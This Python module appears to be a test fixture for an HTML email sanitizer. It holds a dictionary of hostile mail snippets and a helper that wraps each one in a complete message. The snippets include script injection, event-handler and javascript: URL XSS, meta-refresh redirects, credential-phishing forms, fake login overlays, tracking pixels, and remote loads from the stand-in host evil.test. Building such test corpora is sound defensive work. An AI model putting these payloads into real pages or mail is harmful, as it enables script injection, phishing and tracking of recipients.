"""Mails that try everything, each with the rest of a letter around it."""

from __future__ import annotations

#: What each would do: run a script, load something, leave the page, or lie over it.
CORPUS = {
    "script": "<script>alert('pwned');top.pwned=1;fetch('https://evil.test/script')</script>",
    "script from elsewhere": "<script src='https://evil.test/a.js'></script>",
    "module": "<script type=module>import('https://evil.test/m.js')</script>",
    "onerror": "<img src='x:y' onerror=\"alert('pwned');top.pwned=1\">",
    "onload": "<svg onload=\"alert('pwned');top.pwned=1\"></svg>",
    "svg script": "<svg><script>alert('pwned');top.pwned=1</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text y=20>x</text></a></svg>",
    "autofocus": "<input autofocus onfocus=\"alert('pwned');top.pwned=1\">",
    "details": "<details open ontoggle=\"alert('pwned');top.pwned=1\">x</details>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/refresh'>",
    "refresh the top": "<meta http-equiv=refresh content=\"0;url=javascript:top.location='https://evil.test/top'\">",
    "form": "<form action='https://evil.test/form' method=post><input name=p value=x><button>Log in</button></form>",
    "form of our own": "<form action='/logout' method=post target=_top><button>Log out</button></form>",
    "base": "<base href='https://evil.test/' target=_top><a href='login'>Log in</a>",
    "position": "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Log in again</div>",
    "css url": "<div style=\"background:url('https://evil.test/css')\">x</div>",
    "import": "<style>@import 'https://evil.test/import.css';</style>",
    "font": "<style>@font-face{font-family:e;src:url(https://evil.test/font)}p{font-family:e}</style>",
    "stylesheet": "<link rel=stylesheet href='https://evil.test/sheet.css'>",
    "prefetch": "<link rel=preload as=image href='https://evil.test/p'><link rel=dns-prefetch href='//evil.test'>",
    "image": "<img src='https://evil.test/pixel.gif' width=1 height=1>",
    "image set": "<img srcset='https://evil.test/set.png 1x' src=''><picture><source srcset='//evil.test/p'></picture>",
    "javascript link": "<a id=go href=\"javascript:alert('pwned');top.pwned=1\">click</a>",
    "top link": "<a target=_top href='https://evil.test/link'>click</a>",
    "iframe": "<iframe src='https://evil.test/frame'></iframe><iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "object": "<object data='https://evil.test/o'></object><embed src='https://evil.test/e'>",
    "media": "<video src='https://evil.test/v' autoplay></video><audio src='https://evil.test/a' autoplay></audio>",
    "ping": "<a ping='https://evil.test/ping' href='https://evil.test/ping'>click</a>",
    "closing": "</body></html></iframe></textarea></title></style><script>top.pwned=1</script>",
    "comment": "<!--><script>top.pwned=1</script>-->",
}


def mail(piece: str) -> str:
    """Return a whole mail around a piece of the corpus."""
    return (
        f"<!DOCTYPE html><html lang=en><head><title>x</title></head><body><p>Hello</p>{piece}<p>Bye</p></body></html>"
    )
